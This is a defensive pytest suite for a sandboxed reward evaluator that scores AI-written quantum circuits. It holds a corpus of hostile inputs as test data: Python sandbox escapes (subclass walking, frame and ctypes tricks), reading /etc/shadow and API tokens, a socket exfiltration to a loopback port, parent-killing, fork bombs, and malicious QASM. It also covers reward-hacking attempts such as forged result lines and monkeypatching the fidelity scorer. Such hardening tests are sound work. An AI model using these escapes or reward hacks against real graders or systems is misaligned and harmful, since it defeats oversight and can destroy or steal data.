"""The hostile corpus: escapes, reward hacking, resource exhaustion and malicious QASM.

Every case asserts: reward 0 or a typed error (or, for reward-hacking attempts that still
deliver a circuit, that the score is the honest score of that circuit); the evaluation returns
within its limit plus a margin; the canary files are untouched; the loopback listener got no
connection; the parent's memory stays bounded; no process is left behind.

Python cases run twice: with the AST pre-filter (the fast path) and without it, so that the
OS-level layers are shown to hold on their own.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
import time
from pathlib import Path

import psutil
import pytest

from rubriq.config import BudgetConfig, ExtractionConfig, RubricConfig
from rubriq.evaluator import RubriQEvaluator
from rubriq.extract.sandbox import doctor, get_pool

PY_TIMEOUT = 3.0
MARGIN = 6.0
HEADER = "from qiskit import QuantumCircuit\n"

# (id, code, expectation) -- "zero": reward 0 / typed error; "honest": a circuit comes back and
# must be scored honestly (the forged claim has no effect).
PYTHON_CASES = [
    # namespace escapes
    ("subclasses-popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]"
                         "(['sh', '-c', 'echo pwned > {CANARY}'])\nqc = QuantumCircuit(1)", "zero"),
    ("builtin-importer", "bi = [c for c in ().__class__.__base__.__subclasses__() if 'BuiltinImporter' in c.__name__][0]\n"
                         "bi.load_module('posix').system('echo pwned > {CANARY}')", "zero"),
    ("traceback-frame", "try:\n    1/0\nexcept Exception as e:\n"
                        "    e.__traceback__.tb_frame.f_globals['__builtins__']['__import__']('os').system('rm {CANARY}')",
     "zero"),
    ("generator-frame", "g = (x for x in [1])\ng.gi_frame.f_builtins['__import__']('os').remove('{CANARY}')", "zero"),
    ("format-string", "s = '{{0.__init__.__globals__}}'.format(QuantumCircuit)\nopen('{CANARY}', 'w').write(s)", "zero"),
    ("string-building", "getattr(__builtins__, '__imp' + 'ort__')('o' + 's').system('echo x > {CANARY}')", "zero"),
    ("import-concat", "__import__('o' + 's').remove('{CANARY}')", "zero"),
    ("ctypes-system", "import ctypes\nctypes.CDLL(None).system(b'echo pwned > {CANARY}')", "zero"),
    ("sys-modules", "import sys\nsys.modules['os'].system('echo pwned > {CANARY}')", "zero"),
    ("importlib", "import importlib\nimportlib.import_module('os').remove('{CANARY}')", "zero"),
    ("open-write", "open('{CANARY}', 'w').write('pwned')", "zero"),
    ("os-truncate", "import os\nos.truncate('{CANARY}', 0)", "zero"),
    ("shutil-rmtree", "import shutil\nshutil.rmtree('{CANARY_DIR}')", "zero"),
    ("execv", "__import__('os').execv('/bin/sh', ['sh', '-c', 'echo x > {CANARY}'])", "zero"),
    ("subprocess", "import subprocess\nsubprocess.run(['rm', '-f', '{CANARY}'])", "zero"),
    # reward hacking
    ("exit", "exit(0)", "zero"),
    ("quit", "quit()", "zero"),
    ("systemexit", "raise SystemExit(0)", "zero"),
    ("os-exit", "import os\nos._exit(0)", "zero"),
    ("fake-stdout-result", "print('RUBRIQ-RESULT {{\"circuit\": {{\"num_qubits\": 2, \"ops\": [[\"h\", [1], []]]}}}}')\n"
                           "qc = QuantumCircuit(2)\nqc.x(0)", "honest"),
    ("frame-forgery", "import sys\nf = sys._getframe()\nf.f_globals['qc'] = QuantumCircuit(2)\n"
                      "f.f_globals['circuit'] = 'perfect'\nqc.x(0)", "honest"),
    ("monkeypatch-operator", "from qiskit.quantum_info import Operator\nOperator.equiv = lambda *a, **k: True\n"
                             "Operator.__eq__ = lambda *a, **k: True\nqc = QuantumCircuit(2)\nqc.x(0)", "honest"),
    ("monkeypatch-evaluator", "import rubriq.rubric.fidelity as f\nf.score = lambda *a, **k: 1.0\n"
                              "import rubriq.sim.exact as e\ne.unitary_fidelity = None\nqc = QuantumCircuit(2)\nqc.x(0)",
     "honest"),
    ("malicious-reduce-del", "import os\nclass Evil(QuantumCircuit):\n"
                             "    def __reduce__(self):\n        return (os.system, ('echo x > {CANARY}',))\n"
                             "    def __del__(self):\n        open('{CANARY}', 'w').write('pwned')\n"
                             "qc = Evil(2)\nqc.x(0)", "honest"),
    # resources
    ("infinite-loop", "while True:\n    pass", "zero"),
    ("huge-sum", "x = sum(range(10**12))", "zero"),
    ("ignore-sigalrm", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nsignal.alarm(1)\n"
                       "while True:\n    pass", "zero"),
    ("alloc-100gb", "x = bytearray(100 * 2**30)\nqc = QuantumCircuit(1)", "zero"),
    ("numpy-huge", "import numpy as np\nx = np.ones((10**6, 10**6))\nqc = QuantumCircuit(1)", "zero"),
    ("circuit-1e7-qubits", "qc = QuantumCircuit(10**7)\nqc.h(0)", "zero"),
    ("unitary-20q", "import numpy as np\nfrom qiskit.circuit.library import UnitaryGate\nqc = QuantumCircuit(20)\n"
                    "qc.append(UnitaryGate(np.eye(2**20)), range(20))", "zero"),
    ("fork-bomb", "import os\nwhile True:\n    os.fork()", "zero"),
    ("threads", "import threading, time\nfor i in range(5000):\n"
                "    threading.Thread(target=time.sleep, args=(100,)).start()\nqc = QuantumCircuit(1)\nwhile True:\n    pass",
     "zero"),
    ("daemon", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True:\n"
               "            pass\nqc = QuantumCircuit(1)\nwhile True:\n    pass", "zero"),
    ("deep-recursion", "def f(n):\n    return f(n + 1)\nf(0)", "zero"),
    ("deep-recursion-unlimited", "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1)\nf(0)",
     "zero"),
    ("print-1gb", "for _ in range(1024):\n    print('x' * 2**20)\nwhile True:\n    pass", "zero"),
    ("fill-tmp", "f = open('/tmp/rubriq-fill', 'wb')\nwhile True:\n    f.write(b'0' * 2**20)", "zero"),
    ("read-shadow", "data = open('/etc/shadow').read()\nif data:\n    qc = QuantumCircuit(2)", "zero"),
    ("read-env-token", "import os\nif os.environ.get('HF_TOKEN') or os.environ.get('IBM_QUANTUM_TOKEN'):\n"
                       "    qc = QuantumCircuit(2)", "zero"),
    ("socket-connect", "import socket\ns = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)\n"
                       "s.sendall(b'exfiltrate')\nqc = QuantumCircuit(1)", "zero"),
    ("kill-parent", "import os, signal\nos.kill({PARENT_PID}, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)",
     "zero"),
    ("killpg-parent", "import os\nos.killpg({PARENT_PGID}, 9)", "zero"),
    ("ptrace-parent", "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, {PARENT_PID}, 0, 0) == 0:\n"
                      "    qc = QuantumCircuit(1)", "zero"),
    ("sleep", "import time\ntime.sleep(100)", "zero"),
    ("too-many-gates", "qc = QuantumCircuit(2)\nfor _ in range(300000):\n    qc.h(0)", "zero"),
]

N_BITS = 4294967296
QASM_CASES = [
    ("qreg-2^32", f'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[{N_BITS}];\nh q[0];'),
    ("qubit-2^32", f'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[{N_BITS}] q;\nh q[0];'),
    ("many-registers", 'OPENQASM 2.0;\ninclude "qelib1.inc";\n' + "".join(f"qreg r{i}[1];\n" for i in range(100))),
    ("giant-integer", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(' + "9" * 400 + ") q[0];"),
    ("deep-parentheses", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(' + "(" * 100000 + "1"
     + ")" * 100000 + ") q[0];"),
    ("include-passwd", 'OPENQASM 2.0;\ninclude "/etc/passwd";\nqreg q[1];\nh q[0];'),
    ("self-include", 'OPENQASM 2.0;\ninclude "self.qasm";\nqreg q[1];\nh q[0];'),
    ("billion-laughs", 'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate g0 a { x a; }\n'
     + "".join(f"gate g{i} a {{ g{i - 1} a; g{i - 1} a; }}\n" for i in range(1, 41)) + "qreg q[1];\ng40 q[0];"),
    ("empty-laughs", 'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate e0 a { }\n'
     + "".join(f"gate e{i} a {{ e{i - 1} a; e{i - 1} a; }}\n" for i in range(1, 41)) + "qreg q[1];\ne40 q[0];"),
    ("gate-cycle", 'OPENQASM 2.0;\ninclude "qelib1.inc";\ngate a x { b x; }\ngate b x { a x; }\nqreg q[1];\na q[0];'),
    ("opaque-gate", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nopaque foo a;\nqreg q[1];\nfoo q[0];'),
    ("undefined-gate", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nfoo q[0];'),
    ("qasm3-loop-1e9", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nfor int i in [0:1000000000] { x q[0]; }'),
    ("qasm3-while", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nbit c;\nwhile (true) { x q[0]; }'),
    ("ctrl-60", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[61] q;\nctrl(60) @ x q[0:59], q[60];'),
    ("ctrl-chain", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[21] q;\n' + "ctrl @ " * 20
     + "x " + ", ".join(f"q[{i}]" for i in range(21)) + ";"),
    ("pow-half-wide", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[20] q;\ngate wide a, b, c { ccx a, b, c; }\n'
     "pow(0.5) @ wide q[0], q[1], q[2];"),
    ("ten-mb", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\n' + "h q[0];\n" * 1_500_000),
    ("nul-bytes", 'OPENQASM 2.0;\x00include "qelib1.inc";\nqreg q[1];\nh q[0];'),
    ("invalid-utf8", (b'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\n\xff\xfe h q[0];').decode("utf-8", "surrogateescape")),
    ("inf-angle", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[1];\nrz(1e308*1e308) q[0];'),
    ("nan-angle", 'OPENQASM 3.0;\ninclude "stdgates.inc";\nqubit[1] q;\nrz(1e308*1e308 - 1e308*1e308) q[0];'),
    ("over-sim-cap", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[60];\nh q;'),
    ("if-measure", 'OPENQASM 2.0;\ninclude "qelib1.inc";\nqreg q[2];\ncreg c[2];\nmeasure q -> c;\n'
     "if (c == 3) x q[0];"),
]


class Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


def _digest(path: Path) -> tuple[str, float]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime


def _rss_mb() -> float:
    return psutil.Process().memory_info().rss / 2**20


def _zygote_pids() -> set[int]:
    return {p.pid for p in psutil.process_iter(["cmdline"])
            if p.info["cmdline"] and "rubriq.extract.sandbox.zygote" in " ".join(p.info["cmdline"])}


def _stray_processes(zygotes: set[int]) -> list[str]:
    """Descendants of the zygotes, and anything running as a sandbox uid."""
    stray = []
    for pid in zygotes:
        try:
            stray += [f"{c.pid}:{c.name()}" for c in psutil.Process(pid).children(recursive=True)]
        except psutil.NoSuchProcess:
            pass
    for p in psutil.process_iter(["uids", "name"]):
        uids = p.info["uids"]
        if uids and 61000 <= uids.real < 61100:
            stray.append(f"{p.pid}:{p.info['name']}")
    return stray


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    canary_dir = tmp_path_factory.mktemp("canary")
    canaries = [canary_dir / "canary.txt", Path(__file__).resolve().parents[1] / ".pytest_cache" / "rubriq-canary.txt"]
    for c in canaries:
        c.parent.mkdir(parents=True, exist_ok=True)
        c.write_text("do not touch\n")
    os.environ["HF_TOKEN"] = "hf_secret_for_the_test"
    listener = Listener()
    doctor()  # start a zygote now: its start-up is not part of any case's time
    yield {"canaries": canaries, "canary_dir": canary_dir, "listener": listener,
           "digests": [_digest(c) for c in canaries]}
    listener.close()
    os.environ.pop("HF_TOKEN", None)


def _evaluator(prefilter: bool) -> RubriQEvaluator:
    cfg = RubricConfig(extraction=ExtractionConfig(python_timeout_s=PY_TIMEOUT, python_prefilter=prefilter),
                       budget=BudgetConfig(time_s=20.0))
    return RubriQEvaluator(target_algorithm="qft", num_qubits=2, config=cfg)


def _check_world(world, elapsed: float, limit: float, rss_before: float) -> None:
    assert elapsed <= limit + MARGIN, f"took {elapsed:.1f} s"
    for path, digest in zip(world["canaries"], world["digests"]):
        assert path.exists() and _digest(path) == digest, f"canary {path} was touched"
    assert world["listener"].connections == 0, "the loopback listener received a connection"
    assert _rss_mb() - rss_before < 300, "parent memory grew by more than 300 MB"
    deadline = time.monotonic() + 5
    stray = _stray_processes(_zygote_pids())
    while stray and time.monotonic() < deadline:
        time.sleep(0.1)
        stray = _stray_processes(_zygote_pids())
    assert not stray, f"processes left behind: {stray}"


@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "no-prefilter"])
@pytest.mark.parametrize("case_id,code,expect", PYTHON_CASES, ids=[c[0] for c in PYTHON_CASES])
def test_hostile_python(world, prefilter, case_id, code, expect):
    text = "```python\n" + HEADER + code.format(
        CANARY=world["canaries"][0], CANARY_DIR=world["canary_dir"], PORT=world["listener"].port,
        PARENT_PID=os.getpid(), PARENT_PGID=os.getpgid(0)) + "\n```"
    evaluator = _evaluator(prefilter)
    rss = _rss_mb()
    start = time.monotonic()
    result = evaluator.evaluate(text)
    elapsed = time.monotonic() - start
    if expect == "zero" or result.error_type is not None:
        assert result.reward == 0.0 and result.error_type is not None, result.to_dict()
    else:
        # A circuit came back despite the forgery: it is scored as what it is (X on q[0]),
        # which is not a QFT: the honest process fidelity is |Tr(QFT^+ (I (x) X))|^2 / 16.
        honest = _evaluator(True).evaluate('OPENQASM 2.0; include "qelib1.inc"; qreg q[2]; x q[0];')
        assert result.error is None, result.error
        assert result.process_fidelity == pytest.approx(honest.process_fidelity, abs=1e-12)
        assert result.reward == pytest.approx(honest.reward, abs=1e-12)
    _check_world(world, elapsed, PY_TIMEOUT, rss)


@pytest.mark.parametrize("case_id,text", QASM_CASES, ids=[c[0] for c in QASM_CASES])
def test_hostile_qasm(world, case_id, text):
    evaluator = _evaluator(True)
    rss = _rss_mb()
    start = time.monotonic()
    result = evaluator.evaluate(text)
    elapsed = time.monotonic() - start
    assert result.reward == 0.0 and result.error_type is not None, result.to_dict()
    _check_world(world, elapsed, 2.0, rss)


def test_layers_are_reported():
    report = doctor()
    assert set(report["active"]) == {"session", "namespaces", "rlimits", "uid_drop", "pdeathsig", "seccomp"}
    assert report["active"]["session"] and report["active"]["rlimits"]
    for name, active in report["active"].items():
        assert active or name in report["why"], f"{name} inactive without a reason"


def test_pool_survives_and_replaces_a_killed_worker(world):
    pool = get_pool()
    before = _zygote_pids()
    for pid in before:
        os.kill(pid, 9)
    result = _evaluator(True).evaluate("```python\n" + HEADER + "qc = QuantumCircuit(2)\nqc.h(0)\n```")
    # The dead worker is detected, replaced, and the job reported (or rerun) without a hang.
    assert result.error_type in (None, "parse")
    again = _evaluator(True).evaluate("```python\n" + HEADER + "qc = QuantumCircuit(2)\nqc.h(1)\n```")
    assert again.error is None and again.gate_counts == {"h": 1}
    assert pool.size >= 1
